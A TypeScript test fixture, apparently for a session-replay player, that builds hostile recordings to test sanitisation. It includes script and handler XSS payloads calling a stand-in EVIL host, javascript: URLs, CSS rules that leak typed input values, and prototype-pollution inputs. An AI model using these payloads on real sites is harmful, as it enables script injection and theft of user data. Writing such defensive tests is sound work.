/**
 * Recordings that a stranger may send: each tries to run something, to call home, to navigate, or to break the player. A case is what stands in a
 * page's body and what happens to it then; `EVIL` stands for a stranger's server, `RUN` for a script that would tell it.
 */

import { randomUUID } from "node:crypto";

export interface Case {
  name: string;
  nodes: object[];
  /** Data of incremental events that follow. */
  changes?: object[];
}

let lastId = 1000;

function el(
  tagName: string,
  attributes: object = {},
  childNodes: object[] = [],
  more: object = {},
): object {
  return { type: 2, tagName, attributes, childNodes, id: ++lastId, ...more };
}

const svg = (tagName: string, attributes: object = {}, childNodes: object[] = []) =>
  el(tagName, attributes, childNodes, { isSVG: true });

const text = (textContent: string, more: object = {}): object => ({
  type: 3,
  textContent,
  id: ++lastId,
  ...more,
});
const style = (css: string) => el("style", {}, [text(css, { isStyle: true })]);
const change = (fields: object) => ({
  source: 0,
  texts: [],
  attributes: [],
  removes: [],
  adds: [],
  ...fields,
});

/** The id that the next element gets: for changes to it. */
const upcoming = () => lastId + 1;

export function hostileCases(EVIL: string): Case[] {
  const RUN = `top.__ran=1;fetch('${EVIL}/ran')`;
  const HTML = `<script>${RUN}</script><img src=x onerror="${RUN}">`;
  const cases: Case[] = [];
  const add = (name: string, nodes: object[], changes?: object[]) =>
    cases.push(changes === undefined ? { name, nodes } : { name, nodes, changes });
  /** An element, and then a change of its attributes. */
  const changed = (name: string, tagName: string, attributes: object) => {
    const id = upcoming();
    add(name, [el(tagName)], [change({ attributes: [{ id, attributes }] })]);
  };

  // Scripts and handlers.
  add("a script", [el("script", {}, [text(RUN)])]);
  add("a script by URL", [el("script", { src: `${EVIL}/script.js`, type: "module" })]);
  add("a script in capitals", [el("SCRIPT", { SRC: `${EVIL}/script.js` })]);
  add("a script of SVG", [
    svg("svg", {}, [svg("script", { href: `${EVIL}/svg.js` }, [text(RUN)])]),
  ]);
  add("onerror of an image", [el("img", { src: "data:image/png;base64,AAAA", onerror: RUN })]);
  add("onerror in odd letters", [
    el("img", { src: "data:,", oNeRrOr: RUN, "\u212Aonerror": RUN, "on\u0000error": RUN }),
  ]);
  add("onload of a frame", [el("iframe", { onload: RUN })]);
  add("onload of SVG", [svg("svg", { onload: RUN })]);
  add("ontoggle, onfocus, onbegin", [
    el("details", { open: true, ontoggle: RUN }),
    el("input", { autofocus: true, onfocus: RUN }),
    svg("svg", {}, [svg("animate", { onbegin: RUN, attributeName: "x", dur: "1s" })]),
  ]);
  add("onanimationstart", [
    style("@keyframes a{}*{animation:a 1s}"),
    el("p", { onanimationstart: RUN, style: "animation:a 1s" }),
  ]);
  changed("a handler set later", "img", { src: "data:,", onerror: RUN });
  changed("a handler set later, in a list", "img", { onerror: [RUN] });
  add("srcdoc", [
    el("iframe", { srcdoc: HTML }),
    el("iframe", { SRCDOC: HTML, sandbox: "allow-scripts" }),
  ]);
  changed("srcdoc set later", "iframe", {
    srcdoc: HTML,
    sandbox: "allow-scripts allow-top-navigation",
  });
  add("a noscript with scripts", [el("noscript", {}, [text(HTML)])]);
  add("a template with a shadow root", [
    el("template", { shadowrootmode: "open" }, [
      el("img", { src: `${EVIL}/shadow`, onerror: RUN }),
    ]),
  ]);
  add("a shadow root", [
    el("div", {}, [el("img", { src: `${EVIL}/shadow`, onerror: RUN }, [], { isShadow: true })], {
      isShadowHost: true,
    }),
  ]);
  add("customized built-ins", [
    el("button", { is: "evil-button", onclick: RUN }),
    el("evil-element", {}, [], { isCustom: true }),
  ]);
  add("a frame's own document", [
    el("iframe", { rr_src: `${EVIL}/frame`, src: `${EVIL}/frame` }, []),
    el("iframe", { src: "about:blank", name: RUN }, []),
  ]);

  // Script URLs.
  for (const [name, url] of [
    ["javascript:", `javascript:${RUN}`],
    ["javascript: in odd letters", `jAvAsCrIpT:${RUN}`],
    ["javascript: with controls", `\u0001java\tscr\nipt:${RUN}`],
    ["vbscript:", `vbscript:${RUN}`],
    ["data: of HTML", `data:text/html,${encodeURIComponent(HTML)}`],
    ["blob: of a stranger", `blob:${EVIL}/${randomUUID()}`],
  ] as const) {
    add(`${name} everywhere`, [
      el("a", { href: url, target: "_top", autofocus: true }, [text("link")]),
      el("iframe", { src: url }),
      el("frame", { src: url }),
      el("embed", { src: url }),
      el("object", { data: url }),
      el("form", { action: url, target: "_top" }, [el("button", { formaction: url })]),
      el("video", { src: url, poster: url, autoplay: true }),
      svg("svg", {}, [svg("a", { "xlink:href": url, href: url }), svg("use", { href: url })]),
      el("math", {}, [el("mtext", { href: url, "xlink:href": url })]),
    ]);
  }
  changed("javascript: set later", "a", { href: `javascript:${RUN}`, ping: EVIL });
  changed("a frame sent away later", "iframe", { src: `${EVIL}/later` });

  // Documents within documents.
  add("frames, objects, embeds", [
    el("iframe", { src: `${EVIL}/iframe` }),
    el("object", { data: `${EVIL}/object`, type: "text/html" }, [
      el("param", { name: "src", value: `${EVIL}/param` }),
    ]),
    el("embed", { src: `${EVIL}/embed` }),
    el("applet", { code: `${EVIL}/applet`, archive: `${EVIL}/jar` }),
    el("portal", { src: `${EVIL}/portal` }),
    el("fencedframe", { src: `${EVIL}/fenced` }),
    el("frameset", {}, [el("frame", { src: `${EVIL}/frame` })]),
  ]);
  add("meta refresh", [el("meta", { "http-equiv": "refresh", content: `0;url=${EVIL}/refresh` })]);
  add("meta refresh in odd letters", [
    el("META", { "HTTP-EQUIV": "ReFrEsH", CONTENT: `0;url=javascript:${RUN}` }),
  ]);
  add("meta that sets a policy", [
    el("meta", {
      "http-equiv": "Content-Security-Policy",
      content: `report-uri ${EVIL}/report; script-src *`,
    }),
  ]);
  add("a base", [
    el("base", { href: `${EVIL}/base/`, target: "_top" }),
    el("img", { src: "relative.png" }),
  ]);
  add("a manifest and an icon", [
    el("link", { rel: "manifest", href: `${EVIL}/manifest` }),
    el("link", { rel: "icon shortcut", href: `${EVIL}/icon` }),
    el("html", { manifest: `${EVIL}/appcache` }),
  ]);
  add("speculation rules", [
    el("script", { type: "speculationrules" }, [
      text(JSON.stringify({ prefetch: [{ urls: [`${EVIL}/speculated`] }] })),
    ]),
    el("script", { type: "importmap" }, [
      text(JSON.stringify({ imports: { a: `${EVIL}/import` } })),
    ]),
  ]);

  // What reaches out.
  for (const rel of [
    "preload",
    "prefetch",
    "preconnect",
    "dns-prefetch",
    "modulepreload",
    "prerender",
    "PREFETCH stylesheet",
  ]) {
    add(`link ${rel}`, [
      el("link", {
        rel,
        href: `${EVIL}/${encodeURIComponent(rel)}`,
        as: "image",
        imagesrcset: `${EVIL}/set 1x`,
      }),
    ]);
  }
  const linkId = upcoming();
  add(
    "a link that becomes a prefetch",
    [el("link", { rel: "author", href: EVIL })],
    [
      change({
        attributes: [
          { id: linkId, attributes: { rel: "prefetch preconnect", href: `${EVIL}/became` } },
        ],
      }),
    ],
  );
  add("a style sheet", [el("link", { rel: "stylesheet", href: `${EVIL}/sheet.css` })]);
  add("images", [
    el("img", { src: `${EVIL}/img` }),
    el("img", { srcset: `${EVIL}/set 1x, ${EVIL}/set2 2x`, sizes: "1px" }),
    el("picture", {}, [el("source", { srcset: `${EVIL}/source` }), el("img", { src: "data:," })]),
    el("input", { type: "image", src: `${EVIL}/input` }),
    el("img", {
      src: "//127.0.0.1:9/relative-scheme",
      lowsrc: `${EVIL}/low`,
      dynsrc: `${EVIL}/dyn`,
    }),
    el("table", { background: `${EVIL}/table` }, []),
    el("img", { rr_dataURL: `${EVIL}/data-url`, src: "data:," }),
    el("canvas", { rr_dataURL: `${EVIL}/canvas` }),
  ]);
  changed("an image set later", "img", { src: `${EVIL}/later`, srcset: `${EVIL}/later-set` });
  add("media", [
    el(
      "video",
      { src: `${EVIL}/video`, poster: `${EVIL}/poster`, autoplay: true, preload: "auto" },
      [el("track", { src: `${EVIL}/track`, default: true })],
    ),
    el("audio", { src: `${EVIL}/audio`, autoplay: true, rr_mediaState: "played" }),
    el("video", {}, [el("source", { src: `${EVIL}/source` })]),
  ]);
  add("SVG that loads", [
    svg("svg", {}, [
      svg("image", { href: `${EVIL}/image`, "xlink:href": `${EVIL}/image2` }),
      svg("use", { href: `${EVIL}/use#a`, "xlink:href": `${EVIL}/use2#a` }),
      svg("filter", {}, [svg("feImage", { href: `${EVIL}/fe`, "xlink:href": `${EVIL}/fe2` })]),
      svg("rect", {
        fill: `url(${EVIL}/fill#a)`,
        filter: `url(${EVIL}/filter#a)`,
        mask: `url(${EVIL}/mask)`,
      }),
    ]),
  ]);
  add("SVG that animates an address", [
    svg("svg", {}, [
      svg("a", {}, [
        svg("animate", {
          attributeName: "href",
          values: `javascript:${RUN}`,
          begin: "0s",
          fill: "freeze",
        }),
        svg("set", { attributeName: "xlink:href", to: `javascript:${RUN}` }),
      ]),
      svg("image", {}, [svg("set", { attributeName: "href", to: `${EVIL}/set` })]),
      svg("rect", {}, [svg("set", { attributeName: "onmouseover", to: RUN })]),
    ]),
  ]);
  add("HTML within SVG", [
    svg("svg", {}, [
      svg("foreignObject", {}, [
        el("iframe", { src: `${EVIL}/foreign`, srcdoc: HTML }),
        el("body", { onload: RUN }),
      ]),
    ]),
  ]);
  add("MathML", [
    el("math", {}, [
      el("maction", { actiontype: `statusline#${EVIL}`, "xlink:href": `javascript:${RUN}` }, [
        text("x"),
      ]),
      el("annotation-xml", { encoding: "text/html" }, [
        el("img", { src: `${EVIL}/math`, onerror: RUN }),
      ]),
    ]),
  ]);

  // Style sheets.
  for (const [name, css] of [
    [
      "url()",
      `body{background:url(${EVIL}/background)} p{list-style:url('${EVIL}/list');cursor:url("${EVIL}/cursor"),auto;border-image:url( ${EVIL}/border )}`,
    ],
    [
      "@import",
      `@import url(${EVIL}/import);@import "${EVIL}/import2" screen;@IMPORT '${EVIL}/import3'`,
    ],
    [
      "@font-face",
      `@font-face{font-family:evil;src:url(${EVIL}/font) format("woff2"),local(x)} p{font-family:evil}`,
    ],
    [
      "escapes",
      `body{background:\\75\\72\\6c(${EVIL}/escaped)} @\\69mport "${EVIL}/escaped-import"; p{background:u\\rl(${EVIL}/r)}`,
    ],
    [
      "image-set",
      `body{background:image-set("${EVIL}/one" 1x,url(${EVIL}/two) 2x);background:-webkit-image-set(url(${EVIL}/three) 1x)}`,
    ],
    [
      "exfiltration of what was typed",
      ["a", "b", "c"]
        .map((sign) => `input[value^="${sign}"]{background:url(${EVIL}/typed-${sign})}`)
        .join(""),
    ],
    [
      "content and shapes",
      `p::before{content:url(${EVIL}/content)} p{shape-outside:url(${EVIL}/shape);mask:url(${EVIL}/mask);filter:url(${EVIL}/filter#a);offset-path:url(${EVIL}/path#a)}`,
    ],
    [
      "custom properties and @property",
      `:root{--x:url(${EVIL}/custom)} body{background:var(--x)} @property --y{syntax:"<image>";inherits:false;initial-value:url(${EVIL}/property)}`,
    ],
    [
      "@namespace, @counter-style, @page",
      `@namespace url(${EVIL}/ns);@counter-style c{symbols:url(${EVIL}/symbol)} @page{background:url(${EVIL}/page)}`,
    ],
    [
      "src() and expressions",
      `body{background:src("${EVIL}/src")} p{behavior:url(${EVIL}/htc);-moz-binding:url(${EVIL}/xbl);width:expression(${RUN})}`,
    ],
    ["an end of the element", `</style><script>${RUN}</script><img src=x onerror="${RUN}">`],
  ] as const) {
    const styled = el("p", { style: css, value: "abc" });
    add(`CSS: ${name}`, [
      style(css),
      styled,
      el("style", { _cssText: css }),
      el("link", { rel: "stylesheet", _cssText: css }),
      el("input", { value: "abc" }),
    ]);
  }
  const sheetId = upcoming();
  add(
    "a rule added later",
    [style("p{}")],
    [
      {
        source: 8,
        id: sheetId + 1,
        adds: [{ rule: `body{background:url(${EVIL}/rule)}`, index: 0 }],
      },
      {
        source: 8,
        id: sheetId,
        adds: [{ rule: `@import "${EVIL}/rule-import"`, index: 0 }],
        replaceSync: `*{background:url(${EVIL}/replaced)}`,
      },
      {
        source: 13,
        id: sheetId,
        index: [0],
        set: { property: "background", value: `url(${EVIL}/declared)`, priority: "important" },
      },
    ],
  );
  const adoptedId = upcoming();
  add(
    "adopted style sheets",
    [el("div")],
    [
      {
        source: 15,
        id: 1,
        styleIds: [1],
        styles: [
          { styleId: 1, rules: [{ rule: `body{background:url(${EVIL}/adopted)}`, index: 0 }] },
        ],
      },
      { source: 15, id: adoptedId, styleIds: ["__proto__"], styles: [null, 1, { rules: "x" }] },
    ],
  );
  add(
    "a font",
    [el("p", { style: "font-family:evil" }, [text("x")])],
    [
      {
        source: 10,
        family: "evil",
        fontSource: `url(${EVIL}/font)`,
        buffer: false,
        descriptors: {},
      },
    ],
  );
  const styledId = upcoming();
  add(
    "a style set later",
    [el("p")],
    [
      change({
        attributes: [
          {
            id: styledId,
            attributes: {
              style: {
                background: `url(${EVIL}/styled)`,
                color: [`url(${EVIL}/list)`, "important"],
              },
            },
          },
        ],
      }),
      change({
        attributes: [{ id: styledId, attributes: { style: `background:url(${EVIL}/text)` } }],
      }),
    ],
  );

  // Forms, focus, windows, the clipboard.
  add("forms", [
    el("form", { action: `${EVIL}/form`, method: "post", target: "_blank" }, [
      el("input", { name: "a", value: "secret", formaction: `${EVIL}/formaction`, type: "submit" }),
      el("button", { formaction: `${EVIL}/button`, formtarget: "_top" }),
    ]),
    el("isindex", { action: EVIL }),
  ]);
  const dialogId = upcoming();
  add(
    "dialogs and popovers",
    [
      el("dialog", { open: "", rr_open_mode: "modal" }, [text("Enter your password")]),
      el("div", { popover: "manual", id: "pop" }, [text("x")]),
      el("button", {
        popovertarget: "pop",
        popovertargetaction: "show",
        commandfor: "pop",
        command: "show-popover",
        autofocus: true,
      }),
      el("button", { interestfor: "pop", invoketarget: "pop" }),
    ],
    [change({ attributes: [{ id: dialogId, attributes: { rr_open_mode: "modal", open: "" } }] })],
  );
  add("attribution, sharing, topics", [
    el(
      "a",
      { href: EVIL, attributionsrc: `${EVIL}/attribution`, ping: `${EVIL}/ping`, download: "x" },
      [text("x")],
    ),
    el("img", {
      src: "data:,",
      attributionsrc: `${EVIL}/attribution-img`,
      sharedstoragewritable: "",
    }),
    el("iframe", {
      allow: "clipboard-write; camera",
      browsingtopics: "",
      csp: "script-src *",
      src: "about:blank",
      credentialless: "",
    }),
  ]);
  const inputId = upcoming();
  add(
    "typing and selecting",
    [el("input", { type: "text" }), el("input", { type: "file" })],
    [
      { source: 5, id: inputId, text: HTML, isChecked: true },
      { source: 5, id: inputId + 1, text: "/etc/passwd", isChecked: false },
      { source: 14, ranges: [{ start: 1, startOffset: 999, end: 0, endOffset: -1 }] },
      { source: 3, id: inputId, x: 1e308, y: -1e308 },
      { source: 2, id: inputId, type: 5, x: "a", y: {} },
      { source: 2, id: inputId, type: 1e9, x: 0, y: 0 },
    ],
  );
  add(
    "canvas",
    [el("canvas", { width: 1e9, height: 1e9 })],
    [
      {
        source: 9,
        id: lastId,
        property: "drawImage",
        args: [{ rr_type: "Image", src: `${EVIL}/canvas` }, 0, 0],
      },
      {
        source: 9,
        id: lastId,
        type: 0,
        commands: [
          { property: "constructor", args: [RUN] },
          { property: "__proto__", args: [], setter: true },
        ],
      },
    ],
  );
  const mediaId = upcoming();
  add(
    "media told to play",
    [el("video", {})],
    [
      { source: 7, id: mediaId, type: 0, currentTime: -1, playbackRate: 1e9, volume: 99 },
      { source: 7, id: mediaId, type: "x" },
    ],
  );

  // Forms that are none.
  add(
    "prototype pollution",
    [
      el(
        "p",
        JSON.parse(
          `{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"onerror":"${"x"}"}`,
        ),
      ),
      JSON.parse(
        `{"type":2,"tagName":"div","id":999991,"__proto__":{"polluted":1},"attributes":{"constructor":"x","toString":"x","style":{"__proto__":"red"}},"childNodes":[]}`,
      ),
    ],
    [
      JSON.parse(
        `{"source":0,"texts":[],"removes":[],"adds":[],"attributes":[{"id":999991,"attributes":{"__proto__":{"polluted":1},"class":{"a":1}}}]}`,
      ),
    ],
  );
  add("names that are none", [
    el("a b"),
    el("<img src=x onerror=alert(1)>"),
    el(""),
    el("x".repeat(5000)),
    el("p", { "": "x", " ": "x", '"><script>': "x", "a=b": RUN, "\u0000": "x", "1": "x" }),
    el("p", { class: 5, style: null, id: true, title: {}, hidden: [] }),
  ]);
  add("nodes that are none", [
    null,
    5,
    "x",
    [],
    { type: 99, id: 999992 },
    { type: 2 },
    { type: 0, childNodes: [] },
    { type: 4, textContent: HTML, id: 999993 },
    { type: 5, textContent: "--><script>", id: 999994 },
    { type: 1, name: "html><script>", publicId: "", systemId: EVIL, id: 999995 },
  ] as object[]);
  const cycleId = upcoming();
  add(
    "cycles and repeated ids",
    [el("div"), { ...(el("div") as object), id: cycleId }, { ...(el("p") as object), id: 1 }],
    [
      change({
        adds: [
          { parentId: cycleId, nextId: cycleId, node: el("p") },
          { parentId: 3, nextId: null, node: { ...el("b"), id: 3 } },
        ],
      }),
      change({
        adds: [
          { parentId: 777001, nextId: null, node: { ...el("i"), id: 777002 } },
          { parentId: 777002, nextId: null, node: { ...el("i"), id: 777001 } },
        ],
      }),
      change({
        removes: [{ parentId: 1, id: 1 }, { parentId: cycleId, id: 424242 }, null, 5],
        texts: [{ id: 999, value: {} }, null],
        attributes: [null, { id: "x", attributes: [] }],
      }),
    ],
  );
  add(
    "changes of another kind",
    [el("p")],
    [
      { source: 0 },
      { source: 0, adds: "x", removes: {}, texts: 5, attributes: null },
      { source: 99 },
      { source: 1, positions: [{ x: 1e308, y: "a", id: 1, timeOffset: 0 }] },
      { source: 4, width: -5, height: 1e9 },
      { source: 12, positions: null },
      { source: 16, id: 1, property: RUN },
      { source: -1 },
    ],
  );
  add(
    "a nested document",
    [el("iframe", {}, [])],
    [
      change({
        adds: [
          {
            parentId: lastId,
            nextId: null,
            node: {
              type: 0,
              id: 888001,
              childNodes: [
                el("html", {}, [
                  el("body", { onload: RUN }, [
                    el("script", {}, [text(RUN)]),
                    el("img", { src: `${EVIL}/nested`, onerror: RUN }),
                  ]),
                ]),
              ],
            },
          },
        ],
        isAttachIframe: true,
      }),
    ],
  );
  return cases;
}
